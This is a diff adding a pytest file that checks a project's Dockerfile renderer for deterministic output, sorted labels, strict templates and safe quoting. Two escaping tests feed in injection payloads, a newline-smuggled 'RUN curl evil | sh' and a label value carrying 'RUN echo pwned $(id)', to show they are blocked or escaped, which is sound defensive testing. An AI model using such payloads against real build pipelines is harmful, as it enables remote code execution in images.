@@ -1,0 +1,78 @@
+"""Rendering is deterministic, quoted, strict, and the checked-in output is current."""
+
+from __future__ import annotations
+
+import io
+import tarfile
+from dataclasses import replace
+from pathlib import Path
+
+import jinja2
+import pytest
+
+from torchimages import render
+from torchimages.matrix import load_matrix
+
+ROOT = Path(__file__).parents[2]
+
+
+@pytest.fixture(scope="module")
+def spec():
+    return load_matrix(ROOT / "tests" / "fixtures" / "images.yaml").images[1]
+
+
+def test_every_shipped_and_test_entry_matches_its_checked_in_dockerfile() -> None:
+    for config in (ROOT / "images.yaml", ROOT / "tests" / "fixtures" / "images.yaml"):
+        matrix = load_matrix(config, use_environment=False)
+        stale = render.sync_generated([*matrix.images, *matrix.deprecated], wheel_port=matrix.wheel_port, check=True)
+        assert stale == [], f"run `invoke render --config {config.name}`"
+
+
+def test_same_spec_gives_identical_bytes(spec) -> None:
+    assert render.render_dockerfile(spec, wheel_port=8731) == render.render_dockerfile(spec, wheel_port=8731)
+
+
+def test_labels_come_last_and_sorted(spec) -> None:
+    text = render.render_dockerfile(spec, wheel_port=8731)
+    instructions = [line.split()[0] for line in text.splitlines() if line and not line[0].isspace() and not line.startswith("#")]
+    assert instructions[0] == "FROM" and instructions[-1] == "LABEL"
+    keys = [line.split("=")[0].strip().removeprefix("LABEL ").strip() for line in text[text.rindex("LABEL ") :].splitlines()]
+    assert keys == sorted(keys)
+
+
+@pytest.mark.parametrize(
+    ("value", "quoted"),
+    [("plain", '"plain"'), ('say "hi"', '"say \\"hi\\""'), ("$HOME", '"\\$HOME"'), ("a\\b", '"a\\\\b"')],
+)
+def test_dockerfile_quote_escapes_what_the_parser_would_interpret(value: str, quoted: str) -> None:
+    assert render.dockerfile_quote(value) == quoted
+
+
+def test_a_line_break_cannot_smuggle_an_instruction() -> None:
+    with pytest.raises(render.RenderError):
+        render.dockerfile_quote("x\nRUN curl evil | sh")
+
+
+def test_a_hostile_value_stays_inside_its_label(spec) -> None:
+    hostile = replace(spec, os='x" RUN echo pwned "$(id)')
+    text = render.render_dockerfile(hostile, wheel_port=8731)
+    label_line = next(line for line in text.splitlines() if "org.torch-images.os=" in line)
+    assert label_line.strip().startswith('org.torch-images.os="x\\" RUN echo pwned \\"\\$(id)"')
+
+
+def test_missing_template_variables_are_errors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spec) -> None:
+    (tmp_path / "Dockerfile.j2").write_text("FROM {{ spec.base_image }}\nRUN {{ not_given }}\n")
+    monkeypatch.setattr(render, "TEMPLATES", tmp_path)
+    with pytest.raises(render.RenderError, match="not_given"):
+        render.render_dockerfile(spec, wheel_port=8731)
+    assert jinja2.StrictUndefined  # the environment is strict by construction
+
+
+def test_context_tar_is_byte_identical_and_normalised() -> None:
+    files = {"b.txt": b"2", "a.txt": b"1"}
+    first, second = render.context_tar(files), render.context_tar(dict(reversed(list(files.items()))))
+    assert first == second
+    with tarfile.open(fileobj=io.BytesIO(first)) as tar:
+        members = tar.getmembers()
+    assert [m.name for m in members] == ["a.txt", "b.txt"]
+    assert {(m.mtime, m.uid, m.gid, m.uname) for m in members} == {(0, 0, 0, "")}
